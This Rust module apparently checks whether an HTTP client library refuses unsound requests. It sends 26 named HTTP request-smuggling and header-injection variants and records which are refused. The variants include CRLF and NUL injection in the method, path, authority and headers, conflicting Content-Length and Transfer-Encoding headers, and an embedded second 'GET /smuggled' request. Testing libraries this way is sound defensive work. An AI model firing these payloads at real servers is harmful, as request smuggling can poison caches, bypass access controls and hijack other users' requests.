//! Two requests in one: wherever a request takes text, a second request is tried behind the end of a line.

use http_exchange::{Draft, Fault, Url};
use serde_json::{Map, Value};

use crate::report::{Attempt, Failure, Report};

const SECOND: &str = "GET /smuggled HTTP/1.1\r\nhost: smuggled\r\n\r\n";

/// Tries every trick, each in a request of its own. It works when one of them gets an answer.
pub(crate) fn smuggle(url: &Url) -> Attempt {
    let (mut sent, mut refused) = (Vec::new(), Map::new());
    for (name, draft, body) in tricks(url) {
        match send(&draft, body) {
            Ok(status) => sent.push(format!("{name}: {status}")),
            Err(fault) => {
                refused.insert(
                    name.to_owned(),
                    Value::from(format!("{}: {fault}", fault.step)),
                );
            }
        }
    }
    match sent.is_empty() {
        false => Ok(Report::default()
            .with("sent", sent)
            .with("refused", refused)),
        true => Err(Failure::named("refused").with("refused", refused)),
    }
}

fn send(draft: &Draft, body: Option<&[u8]>) -> Result<u16, Fault> {
    let started = draft.start(body.is_some())?;
    if let (Some(mut upload), Some(body)) = (started.upload, body) {
        upload.send(body)?;
        upload.finish(None)?;
    }
    Ok(started.pending.wait()?.status)
}

/// A trick: its name, the request, and what is sent along.
type Trick = (&'static str, Draft, Option<&'static [u8]>);

fn tricks(url: &Url) -> Vec<Trick> {
    let plain = Draft::new("GET", url);
    let path = |text: String| Draft {
        path: Some(text),
        ..plain.clone()
    };
    let header = |name: &str, value: String| plain.clone().with_header(name, value.as_bytes());
    let post = |said: &[(&str, &str)]| {
        let draft = Draft::new("POST", url);
        said.iter().fold(draft, |draft, (name, value)| {
            draft.with_header(name, value.as_bytes())
        })
    };
    let authority = |text: String| Draft {
        authority: Some(text),
        ..plain.clone()
    };
    let host = url.authority();
    let body = Some(SECOND.as_bytes());
    vec![
        (
            "method",
            Draft::new(&format!("GET / HTTP/1.1\r\nhost: {host}\r\n\r\nGET"), url),
            None,
        ),
        (
            "method-space",
            Draft::new("GET /smuggled HTTP/1.1\n", url),
            None,
        ),
        (
            "path",
            path(format!("/ HTTP/1.1\r\nhost: {host}\r\n\r\n{SECOND}")),
            None,
        ),
        (
            "path-line-feed",
            path(format!("/ HTTP/1.1\nhost: {host}\n\nGET /smuggled")),
            None,
        ),
        ("path-space", path("/smuggled HTTP/1.1".to_owned()), None),
        ("path-zero", path("/\0/smuggled".to_owned()), None),
        // The low bytes of these two characters are CR and LF.
        (
            "path-wide",
            path("/\u{10d}\u{10a}smuggled".to_owned()),
            None,
        ),
        (
            "authority",
            authority(format!("{host}\r\nx-smuggled: 1")),
            None,
        ),
        (
            "authority-path",
            authority(format!("{host}/smuggled?")),
            None,
        ),
        (
            "scheme",
            Draft {
                scheme: Some("http\r\n".to_owned()),
                ..plain.clone()
            },
            None,
        ),
        ("name", header("x: 1\r\nx-smuggled", "1".to_owned()), None),
        ("name-colon", header("host:", "smuggled".to_owned()), None),
        ("name-space", header("host ", "smuggled".to_owned()), None),
        ("value", header("x", format!("1\r\n\r\n{SECOND}")), None),
        (
            "value-line-feed",
            header("x", "1\nx-smuggled: 1".to_owned()),
            None,
        ),
        (
            "value-return",
            header("x", "1\rx-smuggled: 1".to_owned()),
            None,
        ),
        (
            "value-fold",
            header("x", "1\r\n x-smuggled: 1".to_owned()),
            None,
        ),
        ("value-zero", header("x", "1\0".to_owned()), None),
        (
            "two-lengths",
            post(&[("content-length", "0"), ("content-length", "44")]),
            body,
        ),
        ("length-list", post(&[("content-length", "0, 44")]), body),
        ("length-sign", post(&[("content-length", "+0")]), body),
        (
            "length-and-coding",
            post(&[("content-length", "0"), ("transfer-encoding", "chunked")]),
            body,
        ),
        (
            "coding",
            post(&[("transfer-encoding", "chunked")]),
            Some(b"0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n"),
        ),
        (
            "coding-other",
            post(&[("transfer-encoding", "xchunked")]),
            body,
        ),
        ("behind-the-end", post(&[("content-length", "0")]), body),
        (
            "keep-alive",
            post(&[
                ("connection", "keep-alive, content-length"),
                ("content-length", "0"),
            ]),
            body,
        ),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    #[test]
    fn every_trick_has_a_name_of_its_own_and_says_something_unsound() {
        let url = Url::parse("http://h/a").unwrap();
        let tricks = tricks(&url);
        let names: BTreeSet<&str> = tricks.iter().map(|(name, ..)| *name).collect();
        assert_eq!(names.len(), tricks.len());
        assert!(
            tricks
                .iter()
                .all(|(_, draft, _)| *draft != Draft::new("GET", &url))
        );
    }
}
